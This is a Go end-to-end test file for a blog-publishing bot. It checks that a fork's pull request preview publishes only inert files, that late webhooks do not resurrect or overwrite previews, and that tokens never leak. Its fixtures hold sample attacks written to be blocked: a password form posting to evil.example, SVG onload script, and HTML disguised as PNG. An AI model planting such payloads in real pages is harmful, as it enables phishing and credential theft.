package main

import (
	"bytes"
	"context"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"image"
	"image/png"
	"io/fs"
	"net/url"
	"strconv"
	"strings"
	"testing"
	"time"
)

// forkPayload is a real pull_request payload (file) made a fork's: its
// head repository is forker/Hello-World.
func (w *e2eWorld) forkPayload(file, head string) []byte {
	w.t.Helper()
	return w.prPayload(file, head, func(pr map[string]any) {
		h := pr["head"].(map[string]any)
		repo := h["repo"].(map[string]any)
		repo["full_name"] = "forker/Hello-World"
		repo["name"] = "Hello-World"
		repo["clone_url"] = "https://github.com/forker/Hello-World.git"
		repo["owner"].(map[string]any)["login"] = "forker"
		h["label"] = "forker:changes"
	})
}

func e2ePNG(t testing.TB) string {
	t.Helper()
	var b bytes.Buffer
	if err := png.Encode(&b, image.NewGray(image.Rect(0, 0, 3, 3))); err != nil {
		t.Fatal(err)
	}
	return b.String()
}

// A fork's static and bundle files are published in its preview only when
// they are of an inert type; the rest is left out and the comment lists it.
func TestPRForkPreviewPublishesOnlyInertFiles(t *testing.T) {
	w, s := newPRWorld(t, false)
	head := w.prHead(map[string]string{
		"static/login.html":               `<form action="https://evil.example/steal"><input type=password name=p></form><script>steal()</script>`,
		"static/badge.svg":                `<svg xmlns="http://www.w3.org/2000/svg" onload="steal()"/>`,
		"static/logo.png":                 e2ePNG(t),
		"static/lying.png":                "<html><script>steal()</script></html>",
		"static/readme.txt":               "Plain words.\n",
		"posts/2026-03-01-fresh/index.md": prPost("Fresh", "2026-03-01", "![a picture](pic.png)\n\n<script>steal()</script>"),
		"posts/2026-03-01-fresh/pic.png":  e2ePNG(t),
		"posts/2026-03-01-fresh/x.html":   "<script>steal()</script>",
	})
	if got := w.deliverPR(s, "fork-inert-opened", w.forkPayload("opened.payload.json", head)); got != 202 {
		t.Fatalf("opened: %d", got)
	}
	w.waitGitHub("the fork's preview", func() bool { return w.status(head, "publishbot/preview") != nil })
	site := w.pages()
	for _, f := range []string{"logo.png", "readme.txt", "posts/fresh/index.html", "posts/fresh/pic.png"} {
		if _, err := fs.Stat(site, "pr-preview/pr-2/"+f); err != nil {
			t.Errorf("%s missing from the fork's preview: %v", f, err)
		}
	}
	for _, f := range []string{"login.html", "badge.svg", "lying.png", "posts/fresh/x.html"} {
		if _, err := fs.Stat(site, "pr-preview/pr-2/"+f); err == nil {
			t.Errorf("the fork's %s was published on the blog's origin", f)
		}
	}
	if page, _ := fs.ReadFile(site, "pr-preview/pr-2/posts/fresh/index.html"); bytes.Contains(page, []byte("steal()")) {
		t.Errorf("the fork's script reached its preview page")
	}
	body := w.marked()[0].Body
	for _, want := range []string{
		"**Left out of the preview**",
		"- `static/login.html`: a fork's .html files are not published",
		"- `static/badge.svg`: a fork's .svg files are not published",
		"- `static/lying.png`: its content is text/html, not what .png says",
		"- `posts/2026-03-01-fresh/x.html`: a fork's .html files are not published",
	} {
		if !strings.Contains(body, want) {
			t.Errorf("the comment lacks %q:\n%s", want, body)
		}
	}
	if strings.Contains(body, "logo.png") || strings.Contains(body, "readme.txt") {
		t.Errorf("the comment lists published files as left out:\n%s", body)
	}
}

// The pull request is closed; a synchronize for it arrives late, while the
// clean-up is still queued, and takes its place in the queue. The preview
// is removed all the same, and the comment says so.
func TestPRClosedThenLateSynchronizeLeavesNoPreview(t *testing.T) {
	w, s := newPRWorld(t, false)
	head := w.prHead(map[string]string{"posts/2026-03-01-fresh.md": prPost("Fresh", "2026-03-01", "Text.")})
	w.deliverPR(s, "late-opened", w.prPayload("opened.payload.json", head, nil))
	w.waitGitHub("the preview", func() bool { return w.status(head, "publishbot/preview") != nil })
	if _, err := fs.Stat(w.pages(), "pr-preview/pr-2/posts/fresh/index.html"); err != nil {
		t.Fatalf("no preview to start from: %v", err)
	}

	// A publish held at the git server keeps the repository busy, so the
	// pull request's jobs wait in the queue.
	g := w.gate()
	src := w.commit(map[string]string{"posts/2026-01-03-c.md": e2ePost("Third", 3, "Main moves on.")}, "")
	w.mustDeliverPush(s.addr, src)
	g.waitStarted(t)
	w.deliverPR(s, "late-closed", w.prPayload("closed.payload.json", head, nil))
	// The synchronize GitHub sent before the close, delivered after it.
	w.deliverLate(s, "late-synchronize", w.prPayload("synchronize.payload.json", head, nil))
	if got := e2eMetric(t, s.addr, `publishbot_queue_depth{state="queued"}`); got != 1 {
		t.Errorf("%v jobs queued, want 1: the synchronize replaced the clean-up", got)
	}
	g.release(t, false)
	w.waitPublished(src, 60*time.Second)
	e2eWaitIdle(t, s.addr, 60*time.Second)

	if _, err := fs.Stat(w.pages(), "pr-preview/pr-2"); err == nil {
		t.Errorf("the closed pull request's preview is on gh-pages")
	}
	c := w.marked()
	if len(c) != 1 || !strings.Contains(c[0].Body, "was removed: the pull request is closed") {
		t.Errorf("the comment does not say the preview was removed: %+v", c)
	}
	if !strings.Contains(s.logs.String(), `"done_as":"cleanup"`) || !s.logs.hasLine("info", "the pull request's state decides the job") {
		t.Errorf("no log line says the late synchronize did the clean-up")
	}

	// Reopened: the preview comes back.
	w.deliverPR(s, "late-reopened", w.prPayload("reopened.payload.json", head, nil))
	w.waitGitHub("the preview back", func() bool {
		c := w.marked()
		return len(c) == 1 && strings.Contains(c[0].Body, "preview](")
	})
	if _, err := fs.Stat(w.pages(), "pr-preview/pr-2/posts/fresh/index.html"); err != nil {
		t.Errorf("reopened, the preview did not come back: %v", err)
	}
}

// A synchronize for an older commit of the pull request, delivered after
// the newer one was previewed, does not replace the newer preview.
func TestPRLateSynchronizeForOlderCommitKeepsNewerPreview(t *testing.T) {
	w, s := newPRWorld(t, false)
	head1 := w.prHead(map[string]string{"posts/2026-03-01-fresh.md": prPost("Fresh one", "2026-03-01", "First version.")})
	w.deliverPR(s, "older-opened", w.prPayload("opened.payload.json", head1, nil))
	w.waitGitHub("the first preview", func() bool { return w.status(head1, "publishbot/preview") != nil })
	head2 := w.prHead(map[string]string{"posts/2026-03-01-fresh.md": prPost("Fresh two", "2026-03-01", "Second version.")})
	w.deliverPR(s, "older-sync-2", w.prPayload("synchronize.payload.json", head2, nil))
	w.waitGitHub("the second preview", func() bool { return w.status(head2, "publishbot/preview") != nil })

	before := w.previewCommits()
	w.deliverLate(s, "older-sync-1", w.prPayload("synchronize.payload.json", head1, nil))
	e2eWaitIdle(t, s.addr, 60*time.Second)

	page, err := fs.ReadFile(w.pages(), "pr-preview/pr-2/posts/fresh/index.html")
	if err != nil || !bytes.Contains(page, []byte("Second version.")) || bytes.Contains(page, []byte("First version.")) {
		t.Errorf("the preview is not the newer commit's (%v):\n%s", err, page)
	}
	if got := w.previewCommits(); len(got) != len(before) || got[0] != head2 {
		t.Errorf("preview commits %v, want still %v (newest %s)", got, before, head2[:7])
	}
	body := w.marked()[0].Body
	if !strings.Contains(body, head2[:7]) || strings.Contains(body, head1[:7]) {
		t.Errorf("the comment does not point at %s:\n%s", head2[:7], body)
	}
}

// previewCommits lists the Preview-Commit trailers on the pages branch,
// newest first.
func (w *e2eWorld) previewCommits() []string {
	w.t.Helper()
	out, err := w.git.Git(context.Background(), e2eRepo, "log", "--format=%(trailers:key=Preview-Commit,valueonly)", "gh-pages")
	if err != nil {
		w.t.Fatal(err)
	}
	var shas []string
	for _, l := range strings.Split(out, "\n") {
		if l = strings.TrimSpace(l); l != "" {
			shas = append(shas, l)
		}
	}
	return shas
}

// secretForms are the ways a secret can be written that logmask knows: as
// it is, escaped for JSON, quoted, escaped for a URL's query, path and user
// information, and in base64 (alone, and as HTTP basic auth carries a
// token).
func secretForms(secrets ...string) []string {
	var forms []string
	for _, s := range secrets {
		forms = append(forms, s)
		if b, err := json.Marshal(s); err == nil {
			forms = append(forms, string(b[1:len(b)-1]))
		}
		var buf bytes.Buffer
		enc := json.NewEncoder(&buf)
		enc.SetEscapeHTML(false)
		if enc.Encode(s) == nil {
			b := bytes.TrimSpace(buf.Bytes())
			forms = append(forms, string(b[1:len(b)-1]))
		}
		forms = append(forms, strconv.Quote(s)[1:len(strconv.Quote(s))-1], url.QueryEscape(s), url.PathEscape(s),
			url.UserPassword("x", s).String()[2:], base64.StdEncoding.EncodeToString([]byte(s)),
			base64.StdEncoding.EncodeToString([]byte("x-access-token:"+s)))
	}
	return forms
}

// TestE2ENoSecretAnywhere runs a push and a fork's pull request through
// serve, with a git server failure on the way (so errors are logged), and
// looks for the token and the webhook secret, in every form logmask knows,
// in everything the bot wrote: the pages branch (every commit message and
// every file of its history), the pull request's comments, statuses, the
// API requests the GitHub stand-in recorded (but for the Authorization
// header of requests to the API itself, which is where the token belongs)
// and every log line.
func TestE2ENoSecretAnywhere(t *testing.T) {
	w, s := newPRWorld(t, false)
	forms := secretForms(e2eToken, e2eSecret)
	find := func(where, text string) {
		t.Helper()
		for _, f := range forms {
			if strings.Contains(text, f) {
				t.Errorf("%s holds a secret (%q)", where, f)
			}
		}
	}

	w.git.FailNext("/info/refs", 503) // a failed fetch, logged and retried
	src := w.commit(map[string]string{"posts/2026-01-03-c.md": e2ePost("Third", 3, "A third post.")}, "")
	w.mustDeliverPush(s.addr, src)
	w.waitPublished(src, 90*time.Second)
	head := w.prHead(map[string]string{
		"static/login.html":         "<script>steal()</script>",
		"posts/2026-03-01-fresh.md": prPost("Fresh", "2026-03-01", "Text."),
	})
	w.deliverPR(s, "secret-opened", w.forkPayload("opened.payload.json", head))
	w.waitGitHub("the preview", func() bool { return w.status(head, "publishbot/preview") != nil })
	w.deliverPR(s, "secret-closed", w.forkPayload("closed.payload.json", head))
	w.waitGitHub("the clean-up", func() bool {
		c := w.marked()
		return len(c) == 1 && strings.Contains(c[0].Body, "removed")
	})
	e2eWaitIdle(t, s.addr, 60*time.Second)
	s.stop(t)

	msgs, err := w.git.Git(context.Background(), e2eRepo, "log", "--format=%B", "gh-pages")
	if err != nil {
		t.Fatal(err)
	}
	find("the pages branch's commit messages", msgs)
	objects, err := w.git.Git(context.Background(), e2eRepo, "rev-list", "--objects", "gh-pages")
	if err != nil {
		t.Fatal(err)
	}
	scanned := 0
	for _, line := range strings.Split(objects, "\n") {
		sha, name, _ := strings.Cut(line, " ")
		if name == "" {
			continue // a commit
		}
		typ, err := w.git.Git(context.Background(), e2eRepo, "cat-file", "-t", sha)
		if err != nil || typ != "blob" {
			continue
		}
		b, err := w.git.Git(context.Background(), e2eRepo, "cat-file", "blob", sha)
		if err != nil {
			t.Fatal(err)
		}
		find("gh-pages:"+name, b)
		scanned++
	}
	if scanned < 5 {
		t.Errorf("only %d files of the pages branch scanned", scanned)
	}
	if strings.Contains(objects, "pr-preview/pr-2/login.html") {
		t.Errorf("the fork's login.html reached the pages branch")
	}
	for _, c := range w.api.Comments(e2eFullName, e2ePR) {
		find(fmt.Sprintf("comment %d", c.ID), c.Body)
	}
	for _, st := range w.api.Statuses(e2eFullName) {
		find("status "+st.Context, st.Description+st.TargetURL)
	}
	for _, r := range w.api.Requests() {
		find("API request "+r.Method+" "+r.Path, r.Path+"?"+r.Query+"\n"+string(r.Body))
		if a := r.Authorization; a != "" && a != "Bearer "+e2eToken && a != "token "+e2eToken {
			find("the Authorization of "+r.Method+" "+r.Path, a)
		}
	}
	for _, r := range w.git.Requests() {
		find("git request "+r.Path, r.Path+"?"+r.Query)
	}
	find("serve's logs", s.logs.String())
	if !strings.Contains(s.logs.String(), `"level":"warning"`) && !strings.Contains(s.logs.String(), `"level":"error"`) {
		t.Errorf("no failure was logged: the scan did not see an error path")
	}
}
